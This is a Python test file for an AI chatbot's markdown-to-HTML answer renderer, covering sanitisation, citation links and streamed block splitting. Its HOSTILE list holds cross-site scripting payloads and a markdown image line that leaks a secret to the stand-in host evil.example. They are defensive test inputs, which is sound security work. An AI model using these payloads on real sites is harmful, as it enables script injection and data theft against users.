"""Answers as HTML: hostile text made harmless, marks made links, streamed text cut into blocks."""

import random
import re
from html.parser import HTMLParser

import pytest

from ai_chatbot.rendering.answers import render_answer
from ai_chatbot.rendering.blocks import BlockSplitter
from ai_chatbot.rendering.links import DIRECTED
from notes.text.html.harmless import WRITTEN
from tests.passages import BOAT, Source

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?leak=secret)",
    '<div id="composer" hx-get="/admin/" hx-trigger="load">x</div>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example/x)",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<svg onload=alert(1)><style>*{display:none}</style></svg>",
    "<iframe src=https://evil.example></iframe><form action=https://evil.example><input></form>",
    "<p style='position:fixed' class='composer' onclick=alert(1)>x</p>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '[x](https://example.org "a\' onmouseover=alert(1)")',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[1](javascript:alert(1)) \ue0001\ue001 [ref]\n\n[ref]: javascript:alert(1)",
]
ALLOWED_ATTRIBUTES = {
    ("a", "href"), ("a", "title"), ("a", "rel"), ("a", "class"), ("a", "aria-label"),
    ("div", "class"), ("span", "class"), ("ol", "start"), ("p", "class"), ("sup", "id"),
} | {(tag, "dir") for tag in DIRECTED | {"div"}}  # fmt: skip
ALLOWED_LINK = re.compile(r"https?://|mailto:|#|/notes/")


class Seen(HTMLParser):
    """Every tag and attribute, as a browser would read them."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.links += [value for name, value in attrs if name == "href"]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("finished", [True, False])
def test_hostile_markdown_comes_out_harmless(text, finished):
    html = render_answer(f"Before {text} after\n\n{text}\n\nEnd", [BOAT], finished=finished)

    seen = Seen(html)
    assert seen.tags <= WRITTEN - {"img", "cite", "ins"}
    assert seen.attributes <= ALLOWED_ATTRIBUTES
    assert all(ALLOWED_LINK.match(link) for link in seen.links)
    assert "Before" in html
    assert "End" in html


@pytest.mark.parametrize("asked", ["Is {} right?", "({})", "[Å]({}), 本", "См. <{}>."])
def test_an_address_with_brackets_is_known_to_its_end(asked):
    address = "https://en.wikipedia.org/wiki/Boat_(film)"

    html = render_answer(f"See {address}.", [], question=asked.format(address))

    assert f'href="{address}"' in html


def test_a_remote_image_becomes_a_link_where_its_address_is_known():
    html = render_answer(
        "![chart](https://example.org/c.png)", [], question="Is https://example.org/c.png right?"
    )

    assert html.strip() == (
        '<p dir="auto"><a href="https://example.org/c.png"'
        ' rel="nofollow noopener noreferrer">chart</a>'
        " (example.org)</p>"
    )


def test_classes_survive_only_where_code_is_highlighted():
    html = render_answer("```python\nreturn 1\n```", [])

    assert '<div class="highlight">' in html
    assert '<span class="k">return</span>' in html


def test_whitespace_in_code_is_kept():
    html = render_answer("```\na    b\n\n\n    c\n```", [])

    assert "a    b\n\n\n    c" in html


def test_html_that_a_model_writes_is_shown_and_not_swallowed():
    html = render_answer("Use List<int> and the <b> tag.", [])

    assert "List&lt;int&gt;" in html
    assert "&lt;b&gt;" in html


def test_lists_and_nesting_need_neither_blank_lines_nor_four_spaces():
    html = render_answer("Steps:\n- one\n  - inner\n- two\n\n1. first\n2. second", [])

    assert re.sub(r"\s+", "", html.replace(' dir="auto"', "")) == (
        "<p>Steps:</p><ul><li>one<ul><li>inner</li></ul></li><li>two</li></ul>"
        "<ol><li>first</li><li>second</li></ol>"
    )


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (r"From \$5 to \$6", "From $5 to $6"),
        (r"about \~5 km", "about ~5 km"),
        (r"\~\~not struck\~\~", "~~not struck~~"),
        (r"\==no mark\==", "==no mark=="),
    ],
)
def test_a_sign_behind_a_backslash_is_shown_as_itself(written, shown):
    assert render_answer(written, []) == f'<p dir="auto">{shown}</p>'


def test_a_bar_in_a_tables_cell_has_no_backslash_when_it_is_shown():
    html = render_answer("| Do \\| that |\n|---|\n| `ps \\| sort` |", [])

    assert "Do | that</th>" in html
    assert "<code>ps | sort</code>" in html


def test_a_table_keeps_its_empty_cells():
    html = render_answer("| a | b |\n|---|---|\n| 1 |  |", [])

    assert html.count("<td") == 2


def test_a_mark_becomes_a_link_named_after_its_source():
    html = render_answer("Repaired in May 2021 [1].", [BOAT])

    assert 'href="/notes/1/?start=0&amp;end=9&amp;v=abc#passage"' in html
    assert 'aria-label="Source 1"' in html
    assert "[1]" not in html


def test_a_number_without_a_source_is_text():
    assert "Oslo [3]." in render_answer("Sold in Oslo [3].", [BOAT])


def test_a_mark_in_code_stays_as_it_is():
    assert "<code>a[1]</code>" in render_answer("Write `a[1]`.", [BOAT])


def test_a_title_cannot_break_out_of_the_link():
    source = Source(1, '"><script>alert(1)</script>', BOAT.text)

    html = render_answer("Repaired in May 2021 in Lund [1].", [source])

    assert "<script" not in html
    assert 'class="citation"' in html


def test_an_unfinished_sentence_keeps_its_own_marks_and_gets_no_others():
    assert "citation" not in render_answer("Repaired in May 2021", [BOAT], finished=False)
    assert "citation" in render_answer("Repaired in May 2021 [1]", [BOAT], finished=False)


MIXED = """# Trip

We went to *Lund* in May.

- one

  more of one
- two
    - inner

1. first

2. second

> quoted

> goes on

```python
def f():

    return 1
```

| a | b |
|---|---|
| 1 | 2 |

Last **words** here
"""


def stream(text, seed):
    """The text in pieces of random lengths, through a splitter: (blocks, splitter)."""
    rng, splitter, blocks, at = random.Random(seed), BlockSplitter(), [], 0
    while at < len(text):
        step = rng.randint(1, 25)
        blocks.append(splitter.push(text[at : at + step]))
        at += step
    return [block for block in blocks if block], splitter


@pytest.mark.parametrize("seed", range(20))
def test_streamed_blocks_and_tail_are_the_whole_text(seed):
    blocks, splitter = stream(MIXED, seed)

    assert "".join(blocks) + splitter.tail == MIXED


@pytest.mark.parametrize("seed", range(20))
def test_blocks_rendered_one_by_one_look_like_the_whole(seed):
    blocks, splitter = stream(MIXED, seed)

    parts = [render_answer(text, []) for text in [*blocks, splitter.closed_tail()]]

    assert re.sub(r"\s+", "", "".join(parts)) == re.sub(r"\s+", "", render_answer(MIXED, []))


def test_the_unfinished_tail_stays_short_in_a_long_answer():
    splitter = BlockSplitter()
    longest = 0
    for number in range(500):
        splitter.push(f"Paragraph {number} has a few words in it.\n\n")
        longest = max(longest, len(splitter.tail))

    assert longest < 120


def test_an_open_code_fence_already_shows_as_code():
    splitter = BlockSplitter()
    splitter.push("Look:\n\n```python\nx = 1\n")

    assert '<span class="n">x</span>' in render_answer(splitter.closed_tail(), [])


def test_a_blank_line_inside_a_fence_does_not_cut_it():
    splitter = BlockSplitter()

    assert splitter.push("```\na\n\nbbbbbbbbbbbbbbbbbbbbb\n\nc\n") == ""
